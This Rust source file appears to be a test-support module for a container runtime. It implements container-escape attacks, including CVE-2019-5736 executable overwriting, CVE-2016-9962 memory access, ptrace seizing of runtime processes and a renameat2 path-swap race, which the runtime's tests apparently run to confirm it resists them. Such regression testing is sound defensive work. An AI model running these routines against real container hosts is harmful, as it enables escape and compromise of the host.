//! Attacks with which a container tries to escape. `inside attack …` runs an attack inside the
//! container. [`Exchange`] exchanges two paths of the container's root file system or of a volume
//! while the runtime uses these paths.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
use nix::mount::MsFlags;
use nix::sys::ptrace;
use nix::sys::signal::{Signal, kill};
use nix::sys::wait::{WaitPidFlag, waitpid};
use nix::unistd::Pid;

use super::InsideError;
use crate::support::machine::full;

/// Returns how many times a test repeats an attack that depends on a race.
pub(crate) fn rounds() -> usize {
    if full() { 500 } else { 40 }
}

pub(crate) fn main(args: &[&str]) -> Result<(), InsideError> {
    match args {
        ["overwrite", seconds] => overwrite(Duration::from_secs_f64(seconds.parse()?)),
        ["pry", seconds] => pry(Duration::from_secs_f64(seconds.parse()?)),
        ["seize", seconds] => seize(Duration::from_secs_f64(seconds.parse()?)),
        ["trace"] => trace(),
        ["peek", seconds] => peek(Duration::from_secs_f64(seconds.parse()?), true),
        ["peek-network", seconds] => peek(Duration::from_secs_f64(seconds.parse()?), false),
        ["unlock", mount, below] => unlock(mount, below),
        _ => Err("unknown attack".into()),
    }
}

fn say(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}").and_then(|()| out.flush());
}

/// Returns the /proc directories of all processes except this process.
fn others() -> Vec<PathBuf> {
    let own = std::process::id().to_string();
    fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter(|entry| {
            let name = entry.file_name().to_string_lossy().into_owned();
            name.bytes().all(|byte| byte.is_ascii_digit()) && name != own
        })
        .map(|entry| entry.path())
        .collect()
}

fn is_own_program(exe: &fs::Metadata) -> bool {
    fs::metadata("/proc/self/exe").is_ok_and(|own| (own.dev(), own.ino()) == (exe.dev(), exe.ino()))
}

/// Tries to make the mount at `mount` writable, and to unmount the mount at `below`. Prints the
/// result of each system call.
fn unlock(mount: &str, below: &str) -> Result<(), InsideError> {
    let none: Option<&str> = None;
    let flags = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
    say(&format!(
        "mount: {:?}",
        nix::mount::mount(none, mount, none, flags, none)
    ));
    say(&format!("umount: {:?}", nix::mount::umount(below)));
    Ok(())
}

/// Runs the attack of CVE-2019-5736. The attack looks for a process in the container that executes
/// a program other than `inside`, for example the runtime. The attack opens the file of this
/// program, and tries repeatedly to overwrite the file. The kernel refuses to open the file for
/// writing while a process executes it (ETXTBSY).
fn overwrite(time: Duration) -> Result<(), InsideError> {
    say("ready");
    let started = Instant::now();
    let mut held: Vec<File> = Vec::new();
    let mut reported: BTreeSet<String> = BTreeSet::new();
    let mut round = 0u32;
    while started.elapsed() < time {
        round = round.wrapping_add(1);
        // After the attack has opened an executable, it searches for more processes only in every
        // 64th round. In all other rounds, it only tries to write to the executable.
        let processes = if held.is_empty() || round.is_multiple_of(64) {
            others()
        } else {
            Vec::new()
        };
        for process in processes {
            let exe = process.join("exe");
            if held.len() < 100
                && fs::metadata(&exe).is_ok_and(|file| !is_own_program(&file))
                && let Ok(file) = File::open(&exe)
            {
                if reported.insert("holds".to_owned()) {
                    say("opened the runtime's executable");
                }
                held.push(file);
            }
        }
        for file in &held {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            match fs::OpenOptions::new().write(true).open(path) {
                Ok(mut file) => {
                    file.write_all(b"#!/bin/evil\n")?;
                    say("overwrote the runtime's executable");
                    return Ok(());
                }
                Err(error) => {
                    if reported.insert(error.to_string()) {
                        say(&format!("refused: {error}"));
                    }
                }
            }
        }
    }
    say("done");
    Ok(())
}

/// Runs the attack of CVE-2016-9962. A process of the runtime enters the container and then
/// executes the container's program. The attack tries to open the memory of this process between
/// these two steps.
fn pry(time: Duration) -> Result<(), InsideError> {
    say("ready");
    let started = Instant::now();
    let mut seen = BTreeSet::new();
    while started.elapsed() < time {
        for process in others() {
            seen.insert(process.clone());
            let foreign = fs::metadata(process.join("exe")).map(|exe| !is_own_program(&exe));
            if matches!(foreign, Ok(true)) {
                say(&format!(
                    "followed the link to the executable of {}",
                    process.display()
                ));
            }
            let memory = File::open(process.join("mem"));
            let still_foreign = fs::metadata(process.join("exe")).map(|exe| !is_own_program(&exe));
            if let (Ok(mut memory), Ok(true)) = (memory, still_foreign) {
                let _ = memory.read(&mut [0u8; 1]);
                say(&format!("opened the memory of {}", process.display()));
            }
        }
    }
    say(&format!(
        "done, {} processes entered the container",
        seen.len()
    ));
    Ok(())
}

/// Tries to take control of each process of rrun that enters the container, before the process
/// executes the container's program.
fn seize(time: Duration) -> Result<(), InsideError> {
    let is_rrun = |process: &Path| {
        fs::read_to_string(process.join("comm")).is_ok_and(|name| name == "rrun\n")
    };
    say("ready");
    let started = Instant::now();
    let mut seen = BTreeSet::new();
    while started.elapsed() < time {
        for process in others() {
            let name = process.file_name().and_then(|name| name.to_str());
            let Some(Ok(id)) = name.map(str::parse) else {
                continue;
            };
            if !is_rrun(&process) || !seen.insert(id) {
                continue;
            }
            let pid = Pid::from_raw(id);
            let seized =
                ptrace::seize(pid, ptrace::Options::empty()).and_then(|()| ptrace::interrupt(pid));
            if seized.is_ok() && is_rrun(&process) {
                say(&format!("took control of the process {id} of rrun"));
            }
        }
    }
    say(&format!(
        "done, {} processes entered the container",
        seen.len()
    ));
    Ok(())
}

/// Stops each new process as early as possible, and compares its mounts and its network interfaces
/// with those of this process.
fn peek(time: Duration, mounts: bool) -> Result<(), InsideError> {
    let tables = |process: &str| -> Option<(String, Vec<String>)> {
        let read = |file| fs::read_to_string(format!("/proc/{process}/{file}")).ok();
        let names = read("net/dev")?;
        let names = names.lines().filter_map(|line| line.split_once(':'));
        let names = names.map(|(name, _)| name.trim().to_owned());
        let mounts = if mounts {
            read("mountinfo")?
        } else {
            String::new()
        };
        Some((mounts, names.collect()))
    };
    let own = tables("self").ok_or("cannot read the own mounts")?;
    say("ready");
    let started = Instant::now();
    let mut next = std::process::id().cast_signed() + 1;
    let mut stopped = 0;
    while started.elapsed() < time {
        let stop = |pid: &i32| kill(Pid::from_raw(*pid), Signal::SIGSTOP).is_ok();
        let Some(pid) = (next..next + 3).find(stop) else {
            continue;
        };
        if tables(&pid.to_string()).is_some_and(|found| found != own) {
            say(&format!("the process {pid} shows another namespace"));
        }
        let _ = kill(Pid::from_raw(pid), Signal::SIGCONT);
        next = pid + 1;
        stopped += 1;
    }
    say(&format!("done, {stopped} processes were stopped"));
    Ok(())
}

/// Tries forever to trace each process that does not execute the program `inside`. The attack
/// prints a line for each process that it traced, and for each process that the kernel protected.
fn trace() -> Result<(), InsideError> {
    say("ready");
    let name = |process: &Path| fs::read_to_string(process.join("comm")).unwrap_or_default();
    let own = name(Path::new("/proc/self"));
    let mut protected = BTreeSet::new();
    loop {
        for process in others() {
            let pid = process
                .file_name()
                .and_then(|pid| pid.to_str()?.parse().ok());
            let (Some(pid), true) = (pid.map(Pid::from_raw), name(&process) != own) else {
                continue;
            };
            match ptrace::seize(pid, ptrace::Options::empty()) {
                Ok(()) => {
                    let traced = name(&process);
                    if traced != own {
                        say(&format!("traces {pid}, which is {}", traced.trim()));
                    }
                    // A process that is still traced could not exit.
                    let _ = ptrace::interrupt(pid);
                    let _ = waitpid(pid, Some(WaitPidFlag::__WALL));
                    let _ = ptrace::detach(pid, None);
                }
                Err(Errno::EPERM) if protected.insert(pid) => {
                    say(&format!("may not trace {pid}"));
                }
                Err(_) => {}
            }
        }
    }
}

/// A thread that repeatedly exchanges two paths with renameat2(2), as fast as possible. Dropping
/// the value stops the thread.
pub(crate) struct Exchange {
    stop: Arc<AtomicBool>,
    times: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Exchange {
    pub(crate) fn start(one: &Path, other: &Path) -> Exchange {
        let stop = Arc::new(AtomicBool::new(false));
        let times = Arc::new(AtomicU64::new(0));
        let (one, other) = (one.to_owned(), other.to_owned());
        let (stopped, counted) = (Arc::clone(&stop), Arc::clone(&times));
        let thread = std::thread::spawn(move || {
            while !stopped.load(Ordering::Relaxed) {
                let flags = RenameFlags::RENAME_EXCHANGE;
                if renameat2(AT_FDCWD, &one, AT_FDCWD, &other, flags).is_ok() {
                    counted.fetch_add(1, Ordering::Relaxed);
                }
            }
        });
        Exchange {
            stop,
            times,
            thread: Some(thread),
        }
    }

    pub(crate) fn times(&self) -> u64 {
        self.times.load(Ordering::Relaxed)
    }
}

impl Drop for Exchange {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}
